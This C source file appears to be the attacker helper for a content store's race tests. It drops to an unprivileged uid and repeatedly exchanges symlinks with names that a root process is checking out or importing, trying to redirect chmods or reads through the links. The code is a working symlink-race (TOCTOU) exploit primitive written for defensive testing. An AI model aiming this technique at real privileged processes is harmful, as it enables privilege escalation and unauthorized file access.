/*
 * The attacker of the store's race tests: drops to an unprivileged uid
 * and swaps names under a root process's feet until killed.
 *
 *   race-swap checkout DIR TARGET UID PREFIX COUNT
 *     DIR belongs to UID; the tree being checked out into it has the nodes
 *     PREFIX0 .. PREFIX<COUNT-1> (FIFOs), created in name order. For each,
 *     spin on an atomic exchange of a symlink to TARGET (prepared in the
 *     directory DIR.atk, also UID's) with the
 *     name, which succeeds the instant the node exists, so that a checkout
 *     that chmods the node by name through a link changes TARGET.
 *
 *   race-swap import DIR NAME LINK UID
 *     In DIR (owned by UID), exchange NAME (a directory) and LINK (a
 *     symlink to a directory the attacker cannot read) in a tight loop,
 *     so that an importer that reopens DIR/NAME/... by path reads
 *     through the link.
 *
 * SPDX-License-Identifier: LGPL-2.1-or-later
 */
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static void drop(const char *uid_s)
{
	uid_t uid = (uid_t)strtoul(uid_s, NULL, 10);

	if (setgroups(0, NULL) < 0 || setresgid(uid, uid, uid) < 0 || setresuid(uid, uid, uid) < 0) {
		perror("race-swap: drop privileges");
		exit(2);
	}
}

static int cmp_str(const void *a, const void *b)
{
	return strcmp(*(char *const *)a, *(char *const *)b);
}

static int swap_checkout(const char *dir, const char *target, const char *prefix, int count)
{
	int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC), lfd;
	char **names = calloc((size_t)count, sizeof(char *));
	unsigned long swaps = 0;
	char ldir[PATH_MAX];

	/* The links wait in DIR.atk (same file system): DIR must look empty. */
	snprintf(ldir, sizeof(ldir), "%s.atk", dir);
	lfd = open(ldir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd < 0 || lfd < 0 || !names) {
		perror("race-swap: open");
		return 2;
	}
	for (int i = 0; i < count; i++) {
		char link[64];

		if (asprintf(&names[i], "%s%d", prefix, i) < 0)
			return 2;
		snprintf(link, sizeof(link), ".l%d", i);
		if (symlinkat(target, lfd, link) < 0) {
			perror("race-swap: symlink");
			return 2;
		}
	}
	/* The checkout creates entries in name order. */
	qsort(names, (size_t)count, sizeof(char *), cmp_str);
	printf("race-swap: watching %s\n", dir);
	fflush(stdout);
	for (int i = 0; i < count; i++) {
		char link[64];

		snprintf(link, sizeof(link), ".l%d", i);
		for (unsigned long spin = 0;; spin++) {
			if (renameat2(lfd, link, dfd, names[i], RENAME_EXCHANGE) == 0) {
				swaps++;
				break;
			}
			/* Missed it (the checkout is past this name) or it never comes. */
			if (spin % 256 == 255 && i + 1 < count && faccessat(dfd, names[i + 1], F_OK, AT_SYMLINK_NOFOLLOW) == 0)
				break;
		}
	}
	printf("race-swap: swapped %lu nodes\n", swaps);
	fflush(stdout);
	pause();
	return 0;
}

static int swap_import(const char *dir, const char *name, const char *link)
{
	int dfd = open(dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (dfd < 0) {
		perror("race-swap: open");
		return 2;
	}
	printf("race-swap: exchanging %s and %s in %s\n", name, link, dir);
	fflush(stdout);
	for (;;)
		if (renameat2(dfd, name, dfd, link, RENAME_EXCHANGE) < 0 && errno != ENOENT) {
			perror("race-swap: renameat2");
			return 2;
		}
}

int main(int argc, char **argv)
{
	if (argc == 7 && strcmp(argv[1], "checkout") == 0) {
		drop(argv[4]);
		return swap_checkout(argv[2], argv[3], argv[5], atoi(argv[6]));
	}
	if (argc == 6 && strcmp(argv[1], "import") == 0) {
		drop(argv[5]);
		return swap_import(argv[2], argv[3], argv[4]);
	}
	fprintf(stderr, "usage: race-swap checkout DIR TARGET UID PREFIX COUNT | import DIR NAME LINK UID\n");
	return 2;
}
